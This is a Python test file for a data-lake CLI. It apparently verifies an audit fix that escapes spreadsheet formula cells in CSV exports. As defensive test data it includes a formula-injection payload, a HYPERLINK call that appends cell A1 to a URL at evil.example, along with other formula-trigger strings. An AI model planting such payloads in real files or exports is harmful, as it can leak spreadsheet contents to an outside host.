"""Issue 14, finding 13: cells a spreadsheet would run as formulas leave `datalake query -f csv` escaped."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
from typer.testing import CliRunner

from datalake.catalog.crawler import LocalCrawler
from datalake.catalog.local import LocalCatalog
from datalake.cli import app
from datalake.settings import get_settings
from datalake.storage.local import LocalObjectStore

CELLS = pd.DataFrame(
    {
        "id": [1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
        "label": [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tindented",
            "\rreturned",
            "plain text",
            "-5",  # text that looks like a number is still text: escaped
            None,
            "total\r=1+1",  # a carriage return inside: quoted, or the formula would open a new row
        ],
        "amount": [-5.5, 1.0, -2.0, 3.0, 4.0, 5.0, 6.0, -7.25, 8.0, 9.0],
        "count": [-1, 2, 3, 4, 5, 6, 7, -8, 9, 10],
    }
)


def catalog_cells(root: Path) -> None:
    """Catalog the hand-made table (not a dataset spec's, so no job publishes it) with the local crawler."""
    store = LocalObjectStore(root)
    LocalCrawler(store, LocalCatalog(store)).crawl("processed", get_settings().processed_database)


def test_finding_13_csv_export_escapes_formula_cells(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("LAKE_ROOT", str(tmp_path / "lake"))
    get_settings.cache_clear()
    LocalObjectStore(tmp_path / "lake").write_parquet("processed/cells/part-0.parquet", CELLS)
    runner = CliRunner()
    catalog_cells(tmp_path / "lake")
    result = runner.invoke(
        app,
        [
            "query",
            'SELECT id, label, amount, count, label AS "=cmd" FROM cells ORDER BY id',
            "--format",
            "csv",
        ],
    )
    assert result.exit_code == 0, result.output
    header, *rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert header == ["id", "label", "amount", "count", "'=cmd"]
    assert [row[1] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tindented",
        "'\rreturned",
        "plain text",
        "'-5",
        "",
        "total\r=1+1",
    ]
    assert [row[4] for row in rows] == [row[1] for row in rows]
    # Numbers stay numbers, negative ones included.
    assert [row[2] for row in rows] == [
        "-5.5",
        "1.0",
        "-2.0",
        "3.0",
        "4.0",
        "5.0",
        "6.0",
        "-7.25",
        "8.0",
        "9.0",
    ]
    assert [row[3] for row in rows] == ["-1", "2", "3", "4", "5", "6", "7", "-8", "9", "10"]
    # The JSON output is data for programs, not a spreadsheet: it keeps the cells as they are.
    as_json = runner.invoke(app, ["query", "SELECT label FROM cells ORDER BY id", "--format", "json"])
    assert '"=HYPERLINK(' in as_json.stdout


def test_finding_13_only_text_cells_are_escaped_whatever_the_dtype() -> None:
    from datalake.query.export import escape_formulas

    frame = pd.DataFrame(
        {
            "arrow_text": pd.array(["=1+1", "ok", None], dtype="string[pyarrow]"),
            "category": pd.Categorical(["@x", "-y", "ok"]),
            "mixed": ["+1", 5, [1, 2]],
            "when": pd.to_datetime(["2024-01-01", "2024-01-02", "2024-01-03"], utc=True),
            "signed": [-1.5, -2.0, 3.0],
        }
    )
    escaped = escape_formulas(frame)
    assert escaped["arrow_text"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(escaped["arrow_text"].iloc[2])
    assert escaped["category"].tolist() == ["'@x", "'-y", "ok"]
    assert escaped["mixed"].tolist() == ["'+1", 5, [1, 2]]
    pd.testing.assert_series_equal(escaped["when"], frame["when"])
    pd.testing.assert_series_equal(escaped["signed"], frame["signed"])
    assert frame["arrow_text"].iloc[0] == "=1+1"  # the caller's frame is left as it was


def test_table_output_shows_markup_in_cells_as_typed(tmp_path: Path, monkeypatch) -> None:
    """Found while fixing finding 13: rich read cell text as markup ("[/bold]" crashed the command)."""
    monkeypatch.setenv("LAKE_ROOT", str(tmp_path / "lake"))
    get_settings.cache_clear()
    cells = pd.DataFrame({"label": ["[/bold]", "[link=http://evil.example]click[/link]"]})
    LocalObjectStore(tmp_path / "lake").write_parquet("processed/markup/part-0.parquet", cells)
    runner = CliRunner()
    catalog_cells(tmp_path / "lake")
    result = runner.invoke(app, ["query", "SELECT label FROM markup ORDER BY label"])
    assert result.exit_code == 0, result.output
    assert "[/bold]" in result.stdout
    assert "[link=http://evil.example]click[/link]" in result.stdout
